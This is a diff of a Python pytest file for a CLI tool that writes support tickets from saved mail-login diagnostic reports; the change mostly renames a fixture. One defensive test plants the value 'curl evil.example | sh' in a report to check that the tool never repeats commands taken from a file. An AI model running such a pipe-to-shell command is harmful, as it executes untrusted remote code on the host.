@@ -14,17 +14,12 @@ from tests.commands.command_line import CommandLine
 SAVED = Path(__file__).parents[1] / "comparison" / "saved" / "2026-11-29-first-record.json"
 
 
-@pytest.fixture
-def cli(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> CommandLine:
-    return CommandLine(monkeypatch, capsys)
-
-
 def flat(words: str) -> str:
     return " ".join(words.split())
 
 
-def test_the_person_gets_plain_words_and_steps(cli: CommandLine) -> None:
-    done = cli("ticket", str(SAVED), "--to", "user", "--lang", "en")
+def test_the_person_gets_plain_words_and_steps(command: CommandLine) -> None:
+    done = command("ticket", str(SAVED), "--to", "user", "--lang", "en")
 
     assert (done.code, done.err) == (0, "")
     assert flat(done.out).startswith("Subject: The server does not accept this user name and password (alice@corp.")
@@ -33,8 +28,8 @@ def test_the_person_gets_plain_words_and_steps(cli: CommandLine) -> None:
     assert not any(word in done.out for word in ("credentials.rejected", "login.imap", "curl", "AUTHENTICATIONFAILED"))
 
 
-def test_the_administrator_gets_evidence_commands_and_steps(cli: CommandLine) -> None:
-    done = cli("ticket", str(SAVED), "--to", "administrator", "--lang", "en")
+def test_the_administrator_gets_evidence_commands_and_steps(command: CommandLine) -> None:
+    done = command("ticket", str(SAVED), "--to", "administrator", "--lang", "en")
 
     assert "AUTHENTICATIONFAILED" in flat(done.out)
     assert "curl -gv" in done.out
@@ -43,27 +38,27 @@ def test_the_administrator_gets_evidence_commands_and_steps(cli: CommandLine) ->
 
 
 @pytest.mark.parametrize(("lang", "said"), [("en", "Hello,"), ("zh-Hans", "您好"), ("zh-Hant", "您好")])
-def test_it_is_written_in_the_language_of_its_reader(lang: str, said: str, cli: CommandLine) -> None:
+def test_it_is_written_in_the_language_of_its_reader(lang: str, said: str, command: CommandLine) -> None:
     for recipient in ("user", "administrator", "provider"):
-        assert said in cli("ticket", str(SAVED), "--to", recipient, "--lang", lang).out
+        assert said in command("ticket", str(SAVED), "--to", recipient, "--lang", lang).out
 
 
 @pytest.mark.parametrize("suffix", ["html", "md"])
-def test_pages_and_texts_are_read_too(suffix: str, cli: CommandLine, tmp_path: Path) -> None:
+def test_pages_and_texts_are_read_too(suffix: str, command: CommandLine, tmp_path: Path) -> None:
     block = machine_readable(saved_report(SAVED.read_bytes()))
     words = {"html": f"<script type='application/json'>\n{block}\n</script>", "md": f"<!--\n{block}\n-->"}
     file = tmp_path / f"report.{suffix}"
     file.write_text(words[suffix], "utf-8")
 
-    assert cli("ticket", str(file), "--lang", "en").out == cli("ticket", str(SAVED), "--lang", "en").out
+    assert command("ticket", str(file), "--lang", "en").out == command("ticket", str(SAVED), "--lang", "en").out
 
 
-def test_names_are_hidden_as_in_reports(cli: CommandLine) -> None:
+def test_names_are_hidden_as_in_reports(command: CommandLine) -> None:
     for recipient in ("user", "administrator", "provider"):
-        assert "alice" not in cli("ticket", str(SAVED), "--to", recipient, "--redact", "--lang", "en").out.lower()
+        assert "alice" not in command("ticket", str(SAVED), "--to", recipient, "--redact", "--lang", "en").out.lower()
 
 
-def test_no_command_is_taken_from_a_file(cli: CommandLine, tmp_path: Path) -> None:
+def test_no_command_is_taken_from_a_file(command: CommandLine, tmp_path: Path) -> None:
     """Whoever sent it could have written that; the record alone makes commands."""
     plain: dict[str, Any] = plain_report(saved_report(SAVED.read_bytes()))
     bad = {"check": "login", "command": "curl evil.example | sh", "shows": "x"}
@@ -72,7 +67,7 @@ def test_no_command_is_taken_from_a_file(cli: CommandLine, tmp_path: Path) -> No
     for record in (plain["record"], None):
         file = tmp_path / "report.json"
         file.write_text(json.dumps(plain | {"record": record}), "utf-8")
-        assert "evil.example" not in cli("ticket", str(file), "--lang", "en").out
+        assert "evil.example" not in command("ticket", str(file), "--lang", "en").out
 
 
 @pytest.mark.parametrize(
@@ -84,9 +79,9 @@ def test_no_command_is_taken_from_a_file(cli: CommandLine, tmp_path: Path) -> No
         (SAVED.read_text("utf-8")[:5000], "ends in the middle"),
     ],
 )
-def test_what_is_no_report_is_one_sentence(content: str, said: str, cli: CommandLine, tmp_path: Path) -> None:
+def test_what_is_no_report_is_one_sentence(content: str, said: str, command: CommandLine, tmp_path: Path) -> None:
     file = tmp_path / "x.json"
     file.write_text(content, "utf-8")
 
-    assert said in cli.refused("ticket", str(file), "--lang", "en")
-    assert "missing.json" in cli.refused("ticket", "missing.json", "--lang", "en")
+    assert said in command.refused("ticket", str(file), "--lang", "en")
+    assert "missing.json" in command.refused("ticket", "missing.json", "--lang", "en")
